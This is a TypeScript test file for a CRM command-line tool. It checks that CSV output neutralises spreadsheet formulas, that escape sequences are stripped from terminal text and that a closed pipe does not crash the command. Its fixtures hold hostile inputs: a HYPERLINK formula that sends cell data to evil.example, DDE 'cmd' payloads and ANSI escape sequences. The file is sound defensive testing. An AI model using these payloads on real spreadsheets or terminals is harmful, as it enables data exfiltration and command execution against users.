// What the CLI prints cannot be turned against its reader: CRM text that looks like a
// spreadsheet formula stays text in --format csv, terminal escape sequences in CRM text do
// not reach the terminal, and a reader that stops early (| head) does not crash the command.
import { spawn } from 'node:child_process';
import { cp, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvCell, plainCell, terminalText } from '../../src/cli/output.ts';
import { cli } from './cli-support.ts';

const root = resolve(import.meta.dirname, '../..');
const SAMPLE = 'examples/sample-portal';
const ESC = '\u001b';

/** Override reasons as a hostile or careless CRM user could type them. */
const REASONS: Record<string, string> = {
  'c-000091': '=HYPERLINK("http://evil.example/?"&A1,"details")',
  'c-000228': '+1+cmd|\' /C calc\'!A0',
  'c-000001': '-2+3',
  'c-000002': '@SUM(1+1)*cmd|\' /C calc\'!A0',
  'c-000003': '\t=1+1',
  'c-000004': '\r=1+1',
  'c-000005': `${ESC}[31mred${ESC}[0m and ${ESC}]0;new title\u0007 bell\u0007`,
  // Text that is a plain number is no formula: it stays as it is.
  'c-000006': '-37393.12',
};

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'kw-unsafe-'));
  await cp(SAMPLE, dir, { recursive: true });
  const rows = Object.entries(REASONS).map(([id, reason]) => [id, 'B', reason, 'rep@example.com', '2026-08-28T17:53:00.000Z', ''].map((c) => csvCell(c)).join(','));
  await writeFile(join(dir, 'overrides.csv'), `company_id,segment,reason,by,at,expires_at\n${rows.join('\n')}\n`);
  const companies = (await readFile(join(dir, 'companies.csv'), 'utf8')).replace('Van Leeuwen Automatisering & Zn.', `${ESC}[2J${ESC}[31mVan Leeuwen${ESC}[0m`);
  await writeFile(join(dir, 'companies.csv'), companies);
});

describe('--format csv', () => {
  it('keeps formula-looking text as text and numbers as numbers', async () => {
    const run = await cli(['recalc', '--input', dir, '--as-of', '2026-11-01', '--format', 'csv']);
    expect(run.code).toBe(0);
    const rows = parse(run.stdout, { columns: true }) as Record<string, string>[];
    const reason = (id: string) => rows.find((r) => r.company_id === id)!.segment_override_reason;
    expect(reason('c-000091')).toBe(`'${REASONS['c-000091']}`);
    expect(reason('c-000228')).toBe(`'${REASONS['c-000228']}`);
    expect(reason('c-000002')).toBe(`'${REASONS['c-000002']}`);
    expect(reason('c-000003')).toBe(`'${REASONS['c-000003']}`);
    expect(reason('c-000004')).toBe(`'${REASONS['c-000004']}`);
    expect(reason('c-000001')).toBe(`'-2+3`);
    expect(reason('c-000006')).toBe('-37393.12');
    // Numbers are left alone, negative ones included.
    const negative = rows.filter((r) => r.net_contribution_12m!.startsWith('-'));
    expect(negative.length).toBeGreaterThan(0);
    for (const r of negative) expect(Number(r.net_contribution_12m)).toBeLessThan(0);
    // No cell of any row starts a formula.
    for (const r of rows) for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  });

  it('neutralises a text cell, not a number', () => {
    expect(csvCell(-37393.12)).toBe('-37393.12');
    expect(csvCell('-37393.12')).toBe('-37393.12');
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('-1+1')).toBe("'-1+1");
    expect(csvCell('a "quoted", text')).toBe('"a ""quoted"", text"');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell(null)).toBe('');
  });
});

describe('text for the terminal', () => {
  it('strips escape sequences and control characters from CRM text in tables and in show', async () => {
    const table = await cli(['recalc', '--input', dir, '--as-of', '2026-11-01']);
    expect(table.code).toBe(0);
    expect(table.stdout).not.toContain(ESC);
    expect(table.stdout).toContain('Van Leeuwen');
    const dataDir = await mkdtemp(join(tmpdir(), 'kw-unsafe-store-'));
    expect((await cli(['import', '--input', dir], { KLANTWAARDE_DATA_DIR: dataDir })).code).toBe(0);
    const show = await cli(['show', 'c-000005'], { KLANTWAARDE_DATA_DIR: dataDir });
    expect(show.code).toBe(0);
    expect(show.stdout).toContain('red and  bell');
    expect([...show.stdout].filter((c) => c !== '\n' && (c < ' ' || (c >= '\u007f' && c <= '\u009f')))).toEqual([]);
  });

  it('keeps line breaks in running text and flattens them in table cells', () => {
    expect(terminalText(`a${ESC}[1mb\n\u0007c\u009b31md`)).toBe('ab\ncd');
    // A line with its break and tabs only is kept as it is; one more control character anywhere and it is cleaned.
    expect(terminalText('a\tb\r\nc\n')).toBe('a\tb\r\nc\n');
    expect(terminalText('x,next\u0085line\n')).toBe('x,nextline\n');
    expect(terminalText(`x,${ESC}[2Jcleared\n`)).toBe('x,cleared\n');
    expect(terminalText('bell\u0007\n')).toBe('bell\n');
    expect(plainCell(`a\tb\r\nc${ESC}[0m`)).toBe('a b  c');
  });
});

describe('a reader that stops early', () => {
  it('does not crash the command (klantwaarde … | head)', async () => {
    const child = spawn(process.execPath, ['bin/klantwaarde.js', 'recalc', '--input', SAMPLE, '--as-of', '2026-11-01', '--format', 'json'], {
      cwd: root,
      env: { ...process.env, LOG_LEVEL: 'silent' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const exited = new Promise<number | null>((done) => child.on('exit', (code) => done(code)));
    // Like head: read the first chunk, then close the pipe.
    await new Promise<void>((done) => child.stdout.once('data', () => done()));
    child.stdout.destroy();
    expect(await exited).toBe(0);
    expect(stderr).not.toContain('EPIPE');
    expect(stderr).toBe('');
  });
});
